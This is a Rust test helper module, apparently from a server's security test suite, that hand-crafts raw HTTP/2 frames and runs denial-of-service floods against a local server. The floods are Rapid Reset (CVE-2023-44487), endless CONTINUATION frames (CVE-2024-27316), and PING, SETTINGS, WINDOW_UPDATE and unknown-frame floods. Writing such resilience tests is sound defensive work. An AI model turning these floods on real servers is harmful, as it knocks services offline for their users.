//! Hand-written HTTP/2 frames that a well-behaved client never sends (RFC 9113).

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};
use tokio_rustls::client::TlsStream;

use crate::{
    client::{HTTP_2, within},
    hostile::attacker,
    served::Served,
};

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

/// `POST https://localhost/mutate` in HPACK, path and host as literals (RFC 7541).
pub const REQUEST: &[u8] = b"\x83\x87\x04\x07/mutate\x01\x09localhost";

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

async fn connect(served: &Served) -> TlsStream<TcpStream> {
    let client = attacker(served).offering(Some(HTTP_2));
    let mut stream = client.connect().await.unwrap();
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await
        .unwrap();
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.unwrap();
    stream
}

/// Reads to the end of the connection. Returns the error code of the last GOAWAY, if there was one.
async fn goaway(mut stream: impl AsyncRead + Unpin) -> Option<u32> {
    let mut head = [0; 9];
    let mut code = None;
    while stream.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        if stream.read_exact(&mut payload).await.is_err() {
            break;
        }
        if head[3] == GOAWAY {
            code = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
        }
    }
    code
}

/// Sends what `next` returns, `rounds` times or until the server closes the connection. Returns the
/// error code of its GOAWAY.
pub async fn flood(served: &Served, rounds: u32, next: impl Fn(u32) -> Vec<u8>) -> Option<u32> {
    let (read, mut write) = tokio::io::split(connect(served).await);
    let reading = tokio::spawn(goaway(read));
    within(async {
        for round in 0..rounds {
            if write.write_all(&next(round)).await.is_err() {
                break;
            }
        }
        let _ = write.flush().await;
        let _ = write.shutdown().await;
    })
    .await;
    within(reading).await.unwrap()
}

/// Opens streams and resets them at once (CVE-2023-44487). Returns the error code of the GOAWAY.
pub async fn rapid_resets(served: &Served) -> Option<u32> {
    flood(served, 200, |round| {
        let streams = (0..500).map(|i| 2 * (round * 500 + i) + 1);
        streams
            .flat_map(|stream| {
                let open = frame(HEADERS, END_HEADERS, stream, REQUEST);
                [open, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            })
            .collect()
    })
    .await
}

/// Sends a head with endless continuations (CVE-2024-27316). Returns the error code of the GOAWAY.
pub async fn endless_continuations(served: &Served) -> Option<u32> {
    let header = [b"\x00\x01x\x7f\x81\x7e".as_slice(), &[b'y'; 16_000]].concat();
    flood(served, 10_000, |round| match round {
        0 => frame(HEADERS, 0, 1, REQUEST),
        _ => frame(CONTINUATION, 0, 1, &header),
    })
    .await
}

/// Floods the server with frames that cost the sender nothing, one kind after the other.
pub async fn floods(served: &Served) {
    let many = |frame: Vec<u8>| frame.repeat(1000);
    flood(served, 100, |_| many(frame(PING, 0, 0, &[1; 8]))).await;
    flood(served, 100, |_| {
        many(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))
    })
    .await;
    flood(served, 100, |round| match round {
        0 => frame(HEADERS, END_HEADERS, 1, REQUEST),
        _ => many(frame(DATA, 0, 1, &[])),
    })
    .await;
    flood(served, 100, |_| {
        many(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
    })
    .await;
    // Of an unknown type.
    flood(served, 100, |_| many(frame(0xbe, 0xff, 0, &[0; 16]))).await;
}

/// Sends health probes, 100 per write.
pub async fn probes(served: &Served) {
    const PROBE: &[u8] = b"\x82\x87\x04\x08/healthz\x01\x09localhost";
    flood(served, 100, |round| {
        let streams = (0..100).map(|i| 2 * (round * 100 + i) + 1);
        streams
            .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, PROBE))
            .collect()
    })
    .await;
}
